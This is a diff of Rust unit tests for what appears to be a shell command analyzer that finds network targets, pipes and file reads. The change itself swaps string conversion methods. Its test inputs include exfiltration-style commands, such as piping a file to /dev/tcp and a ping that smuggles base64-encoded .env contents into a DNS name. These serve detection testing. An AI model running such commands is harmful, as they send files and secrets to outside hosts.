@@ -23,7 +23,7 @@ fn line(program: &Word, args: &[Word]) -> String {
 
 fn show(word: &Word) -> String {
     match word {
-        Word::Literal(text) => text.clone(),
+        Word::Literal(text) => text.to_string(),
         Word::Pattern(own) => format!("`{own}`"),
         Word::Unknown => "?".to_owned(),
     }
@@ -234,12 +234,12 @@ fn flags_targets_and_pipes() {
     assert_eq!(shows(&first("ping -c1 h").targets), ["h"]);
     assert_eq!(shows(&first("curl -s -X POST https://h/x").targets), ["https://h/x"]);
     assert_eq!(shows(&first("cat x > /dev/tcp/h/80").targets), ["h"]);
-    assert_eq!(first("/usr/bin/rm x").program, Word::Literal("rm".to_owned()));
-    assert_eq!(first("./rm x").program, Word::Literal("/app/rm".to_owned()));
+    assert_eq!(first("/usr/bin/rm x").program, Word::Literal("rm".into()));
+    assert_eq!(first("./rm x").program, Word::Literal("/app/rm".into()));
     assert_eq!(first("A=1 B=$X c").env.len(), 2);
     let read_all = read("a | tee b | c");
     assert_eq!(read_all.commands.last().unwrap().stdin_from, ["tee", "a"]);
-    assert!(read_all.pipes_into.contains(&("a".to_owned(), "c".to_owned())));
+    assert!(read_all.pipes_into.contains(&("a".into(), "c".into())));
     assert_eq!(read("ping $(base64 .env).x").commands.last().unwrap().words_from, ["base64"]);
 }
 
@@ -294,7 +294,7 @@ fn what_is_redirected_is_read_and_written_by_some_command() {
         ("A=1 < y", &["/app/y"], &[]),
     ] {
         let read = read(text);
-        let of = read.commands.iter().find(|c| c.program == Word::Literal(":".to_owned())).expect(text);
+        let of = read.commands.iter().find(|c| c.program == Word::Literal(":".into())).expect(text);
         assert_eq!(shows(&of.reads), reads, "{text}");
         assert_eq!(shows(&of.writes), writes, "{text}");
     }
